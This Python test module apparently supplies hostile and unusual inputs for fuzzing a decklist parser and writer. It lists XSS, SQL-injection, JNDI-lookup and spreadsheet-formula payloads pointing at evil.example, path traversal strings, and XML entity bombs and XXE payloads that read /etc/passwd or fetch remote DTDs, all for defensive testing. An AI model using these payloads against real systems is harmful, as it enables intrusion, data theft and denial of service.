"""What a stranger may write into a name, and the lists that mutations begin with."""

from functools import cache
from pathlib import Path

from decklists.dialects import DIALECT_NAMES
from decklists.model import Deck, Entry, Section, SectionKind
from decklists.reader import all_codes, read
from decklists.writer import write
from legality.reference.example import FOLDER
from tests.properties.lists import HEADINGS, ODD, TITLES
from tests.shared import all_lists

DOCS = Path(__file__).parents[2] / "docs" / "examples"

UNSEEN = (
    *("\x00", "\x07", "\x08", "\x0b", "\x0c", "\x1b[2J", "\x1b]8;;https://evil.example\x07here\x1b]8;;\x07"),
    *("\x9b31m", "\x85", "\xad", "\u200b", "\u200d", "\u200e", "\u200f", "\u202e", "\u2028", "\u2029"),
    *("\u2066", "\ufeff", "\ufffd", "\U000e0041", "\ue000", "\ufffe", "\u0301" * 40),
)
"""Controls, marks without width or that turn the writing, and letters of nobody."""

LETTERS = (
    *(
        "🖖",
        "👩\u200d🚀",
        "🏳️\u200d🌈",
        "Ѕрοсk",
        "Spоck",
        "ＳＰＯＣＫ",
        "Ṡ̈pock",
        "日本",
        "שפוק",
        "سبوك",
        "ﬁ",
        "İ",
    ),
    *("ß", "ǅ", "٣", "３", "Ⅷ", "½", "\xa0", "\u3000", "’", "“", "–", "…", "•", "❖"),
)
"""Letters that look like others, fold oddly, take two columns, or run from right to left."""

MARKUP = (
    *("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>', "</title>"),
    *("<!--", "-->", "]]>", "<![CDATA[", "&lt;b&gt;", "&#x3c;", "&xxe;", "javascript:alert(1)", "{{7*7}}"),
    *("'; DROP TABLE event; --", '" OR 1=1 --', "${jndi:ldap://evil.example/a}", "%s%n", "{0.__class__}"),
    *("=1+1", "+1", "-1", "@SUM(A1)", '=HYPERLINK("https://evil.example","x")', "\t=1+1", "＝1+1"),
    *("![x](https://evil.example/x.png)", "[x](javascript:alert(1))", "`x`", "```", "| a | b |", "# x"),
    *("<https://evil.example>", "https://evil.example", "www.evil.example", "**x**", "~~x~~", "---", "==="),
    *("::error file=x::y", "%0A::error::x", "../../etc/passwd", "C:\\CON", "\\", '"', "'", ",", ";", "\t"),
)
"""Marks of everything that an answer is shown in."""

PIECES = (*UNSEEN, *LETTERS, *MARKUP, *ODD, *HEADINGS, *TITLES)

NUMBERS = (
    *("0", "-1", "1", "3", "99", "100", "101", "1000", "999999", "9" * 30, "9" * 5000, "1e9", "0x3", "3.5"),
    *("٣", "３", "²", "½", "1,000", "", "NaN", "Infinity", "true", "null"),
)

BOMBS = (
    '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "aaaaaaaaaa">'
    + "".join(
        f'<!ENTITY {after} "{f"&{before};" * 10}">'
        for before, after in zip("abcdefgh", "bcdefghi", strict=True)
    )
    + "]><deck><superzone name='Deck'><card><name>&i;</name></card></superzone></deck>",
    (
        '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><deck><superzone name="Deck"><card>'
        "<name>&x;</name></card></superzone></deck>"
    ),
    '<!DOCTYPE d SYSTEM "http://127.0.0.1:9/evil.dtd"><deck><superzone name="Deck"></superzone></deck>',
    '<!DOCTYPE d [<!ENTITY % p SYSTEM "http://127.0.0.1:9/p"> %p;]><deck/>',
    "<deck>" + "<a>" * 5_000,
    "<deck>" + "<a>" * 5_000 + "</a>" * 5_000 + "</deck>",
    "<deck " + " ".join(f'a{number}="x"' for number in range(5_000)) + "/>",
    "[" * 5_000,
    '{"sections":' * 2_000,
    '{"sections": [{"kind": "draw", "entries": [{"count": 1e400, "name": "Spock"}]}]}',
    '{"sections": [{"kind": "draw", "entries": [{"count": ' + "9" * 5_000 + ', "name": "Spock"}]}]}',
    "PK\x03\x04\x14\x00\x00\x00\x08\x00deck.txt",
)
"""What grows or fetches in a parser that lets it, and archives, which no list is."""

SAMPLES = (
    "# old\n1\tSpock\t\nMissions:\t\n1\tHunt Alien",
    "Draw Deck (1)\n49\tV\t12\t\t1x Change of Venue\n",
    "Title: Rush\n== Seed deck (2) ==\n3x Horta (2U28)\nHorta x3\n10 Tribbles - Poison\n",
)


def deck_with(title: str, player: str, name: str) -> Deck:
    """Return a deck in which a stranger's words stand everywhere where a list has room for words."""
    kinds: tuple[SectionKind, ...] = ("draw", "missions", "unknown")
    sections = tuple(
        Section(kind, name if kind == "unknown" else "", (Entry(2, name, name, 0, 0, 0),)) for kind in kinds
    )
    return Deck(sections, title, player, "2e")


@cache
def beginnings() -> tuple[str, ...]:
    """Return the lists that mutations begin with: all that ships, and each of them in all six dialects."""
    texts = [path.read_text("utf-8") for path in sorted((*FOLDER.glob("*/*.txt"), *DOCS.rglob("*.txt")))]
    texts += [path.read_text("utf-8", "replace") for path in all_lists()]
    samples = [sample.text for code in all_codes() for sample in code.samples if sample.times == 1]
    texts += [sample if isinstance(sample, str) else sample.decode("latin-1") for sample in samples]
    written = [
        write(read(text).deck, dialect).text
        for text in texts[::7]
        for dialect in DIALECT_NAMES
        if len(text) < 8_000
    ]
    return (*texts, *written, *SAMPLES, *BOMBS)
